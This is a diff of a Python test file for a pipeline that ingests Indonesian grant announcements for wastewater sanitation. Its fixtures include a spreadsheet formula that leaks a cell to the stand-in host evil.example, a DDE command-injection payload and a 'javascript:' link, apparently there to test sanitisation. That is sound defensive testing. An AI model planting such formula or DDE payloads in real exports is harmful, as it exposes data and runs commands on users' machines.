@@ -26,7 +26,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Hibah Sanitasi Air Limbah
 DDE = "+cmd|' /C calc'!A0 Bantuan Sanitasi Air Limbah"
 BODY = ("<p>Kementerian membuka hibah sanitasi air limbah domestik tahun anggaran 2027 bagi pemerintah "
         "kabupaten/kota untuk pembangunan instalasi pengolahan air limbah komunal di permukiman padat.</p>"
-        "<p>Peserta yang dapat mengajukan usulan adalah pemerintah kabupaten/kota.</p>")
+        "<p>Peserta yang dapat mengajukan usulan adalah pemerintah kabupaten/kota. Usulan disampaikan paling "
+        "lambat 20 Desember 2026.</p>")  # a call by its body: a submission window addressed to pemda
 LINKS = {"/siaran-pers/hibah-sanitasi-relatif": "Hibah Sanitasi Air Limbah Relatif 2027",
          "javascript:void(0)": "Hibah Sanitasi Air Limbah Javascript 2027",
          "tel:+62-21-5201590": "Hibah Sanitasi Air Limbah Telepon 2027"}
@@ -44,6 +45,7 @@ def _rss() -> str:
 def _entry(key: str, title: str, **kw) -> dict:
     return {"key": key, "title": title, "funding_type": "Hibah Daerah", "fiscal_year": 2027,
             "recipient_levels": ["kota"], "closes_on": "2026-12-20", "ceiling_idr": 2_000_000_000,
+            "dates_source": "surat uji (test)",
             "description": "Hibah sanitasi air limbah domestik untuk instalasi pengolahan air limbah komunal kota.",
             **kw}
 
@@ -78,7 +80,7 @@ def test_an_odd_week_is_made_whole_and_its_bad_records_are_named(engine, httpser
                    description="Instalasi pengolahan air limbah domestik komunal dan sanitasi permukiman kota")
     for name in ("feed", "odd"):
         run = ingest_source(engine, name, WEEK)
-        assert not run.get("failed"), run
+        assert not run.get("failed"), (run["message"], run.get("error_details"))
 
     with engine.connect() as conn:
         urls = dict(conn.execute(select(programmes.c.title, programmes.c.source_url)).all())
